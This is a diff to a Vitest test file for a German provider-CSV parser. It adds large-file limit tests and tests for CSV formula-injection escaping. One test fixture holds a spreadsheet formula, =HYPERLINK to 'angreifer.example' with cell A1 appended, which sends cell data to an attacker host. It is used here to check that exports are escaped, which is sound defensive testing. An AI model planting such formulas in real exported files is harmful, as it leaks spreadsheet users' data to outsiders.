@@ -1,7 +1,16 @@
 import { describe, expect, it } from "vitest";
 import type { Provider } from "@/lib/schemas/provider";
-import { detectSeparator, readCsv } from "./parse";
-import { PROVIDER_CSV_COLUMNS, PROVIDER_CSV_TEMPLATE, parseProvidersCsv, serializeProvidersCsv } from "./providers";
+import { detectSeparator, readCsv, writeCsvField } from "./parse";
+import {
+  groupByKey,
+  MAX_CSV_PROVIDERS,
+  MAX_CSV_ROWS,
+  PROVIDER_CSV_COLUMNS,
+  PROVIDER_CSV_TEMPLATE,
+  parseProvidersCsv,
+  parseProvidersCsvAsync,
+  serializeProvidersCsv,
+} from "./providers";
 
 const HEADER = "Nr.,Art,Name,Straße,PLZ,Ort,Nachfolge,Ärztin/Arzt,Geburtsjahr,Alter,Tätigkeit,Versorgungsauftrag,Wochenstunden,Geplantes Abgabejahr";
 
@@ -167,5 +176,89 @@ describe("serializeProvidersCsv", () => {
   it("documents every column with a German header and description", () => {
     expect(PROVIDER_CSV_COLUMNS).toHaveLength(14);
     for (const c of PROVIDER_CSV_COLUMNS) expect(c.description_de.length).toBeGreaterThan(3);
+  });
+});
+
+describe("large files (issue 12)", () => {
+  const row = (no: number, doctor: number) =>
+    `${no};Hausarztpraxis;Praxis ${no};Weg ${no};32694;Dörentrup;keine;Dr. ${no}-${doctor};1970;;zugelassen;voll;;`;
+  const SEMI_HEADER = HEADER.replaceAll(",", ";");
+
+  it("groups 30,000 rows into the right groups, in order", () => {
+    const rows = Array.from({ length: 30_000 }, (_, i) => ({ key: `nr:${i % 7_000}`, i }));
+    const groups = groupByKey(rows, (r) => r.key);
+    expect(groups.size).toBe(7_000);
+    expect([...groups.keys()].slice(0, 3)).toEqual(["nr:0", "nr:1", "nr:2"]);
+    expect(groups.get("nr:0")!.map((r) => r.i)).toEqual([0, 7_000, 14_000, 21_000, 28_000]);
+    expect(groups.get("nr:6999")!.map((r) => r.i)).toEqual([6_999, 13_999, 20_999, 27_999]);
+    expect([...groups.values()].reduce((n, g) => n + g.length, 0)).toBe(30_000);
+  });
+
+  it("reads a file at the caps: 20,000 rows in 5,000 providers of four doctors each", async () => {
+    const lines = [SEMI_HEADER];
+    for (let p = 1; p <= MAX_CSV_PROVIDERS; p++) for (let d = 1; d <= MAX_CSV_ROWS / MAX_CSV_PROVIDERS; d++) lines.push(row(p, d));
+    const result = await parseProvidersCsvAsync(lines.join("\n"));
+    expect(result.ok).toBe(true);
+    if (!result.ok) return;
+    expect(result.providers).toHaveLength(MAX_CSV_PROVIDERS);
+    expect(result.providers.at(-1)).toMatchObject({ name: `Praxis ${MAX_CSV_PROVIDERS}` });
+    expect(result.providers.at(-1)!.doctors.map((d) => d.name)).toEqual([1, 2, 3, 4].map((d) => `Dr. ${MAX_CSV_PROVIDERS}-${d}`));
+  });
+
+  it("refuses a file with more rows than allowed, with a German message", () => {
+    const lines = [SEMI_HEADER, ...Array.from({ length: MAX_CSV_ROWS + 1 }, (_, i) => row(Math.floor(i / 5), i % 5))];
+    expect(parseProvidersCsv(lines.join("\n"))).toStrictEqual({
+      ok: false,
+      errors: [{ line: MAX_CSV_ROWS + 2, message: expect.stringMatching(/^Die Datei hat 20\.001 Zeilen; erlaubt sind höchstens 20\.000 Zeilen/) }],
+    });
+  });
+
+  it("refuses a file with more providers than allowed", () => {
+    const lines = [SEMI_HEADER, ...Array.from({ length: MAX_CSV_PROVIDERS + 1 }, (_, i) => row(i, 1))];
+    const result = parseProvidersCsv(lines.join("\n"));
+    expect(result.ok).toBe(false);
+    if (result.ok) return;
+    expect(result.errors).toEqual([{ line: 1, message: expect.stringContaining("5.001 Einrichtungen; erlaubt sind höchstens 5.000 Einrichtungen je Gemeinde") }]);
+  });
+});
+
+describe("formula injection on export (OWASP CSV injection), lossless round trip", () => {
+  const hostile: Provider[] = [
+    {
+      kind: "gp-practice",
+      name: '=HYPERLINK("https://angreifer.example/?d="&A1;"Klick")',
+      street: "+49 Hauptstraße 1",
+      postcode: "32694",
+      city: "-Dörentrup",
+      successorStatus: "none",
+      doctors: [
+        { name: "@SUMME(1;2)", birthYear: 1960, employment: "licensed", licence: "full" },
+        { name: "'Apostroph", birthYear: 1970, employment: "licensed", licence: "half" },
+        { name: "''zwei", birthYear: 1971, employment: "licensed", licence: "half" },
+        { name: "'=schon maskiert", birthYear: 1972, employment: "licensed", licence: "half" },
+      ],
+    },
+    { kind: "pharmacy", name: "Apotheke =am Markt", street: "Weg 2", postcode: "32694", city: "Dörentrup", successorStatus: "none", doctors: [] },
+  ];
+
+  it("writes no cell that starts with =, +, -, @, tab or CR, and reads back exactly the same data", () => {
+    const csv = serializeProvidersCsv(hostile);
+    const cells = csv
+      .replace(/^\uFEFF/, "")
+      .split("\r\n")
+      .flatMap((line) => line.split(";"))
+      .map((cell) => cell.replace(/^"/, ""));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(csv).toContain(`"'=HYPERLINK(""https://angreifer.example/?d=""&A1;""Klick"")"`);
+    expect(csv).toContain(`;"'@SUMME(1;2)";`);
+    expect(csv).toContain(`;"''Apostroph";`);
+    expect(parseProvidersCsv(csv)).toStrictEqual({ ok: true, providers: hostile });
+  });
+
+  it("the escape rule: one leading ' removed only before a formula character or another '", () => {
+    expect(readCsv("'=1+1;'+x;''y;'z;'\n", ";")[0]?.fields).toEqual(["=1+1", "+x", "'y", "'z", "'"]);
+    expect(writeCsvField("=1+1", ";")).toBe(`"'=1+1"`);
+    expect(writeCsvField("'z", ";")).toBe(`"''z"`);
+    expect(writeCsvField("Praxis", ";")).toBe("Praxis");
   });
 });
